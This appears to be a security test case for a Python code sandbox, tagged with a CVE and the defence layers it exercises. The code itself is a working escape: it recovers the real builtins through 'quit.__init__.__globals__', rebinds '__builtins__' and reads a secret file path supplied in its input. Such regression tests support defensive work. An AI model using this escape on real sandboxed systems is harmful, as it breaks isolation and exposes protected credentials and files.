# class: wrapper breaking
# technique: the name of the built-ins redefined, for functions made after it
# advisory: CVE-2026-49444
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
global __builtins__
__builtins__ = quit.__init__.__globals__["sys"].modules["builtins"]
def read(path):
    return open(path).read()
return [{"json": {"reached": read(host["secret"])}}]
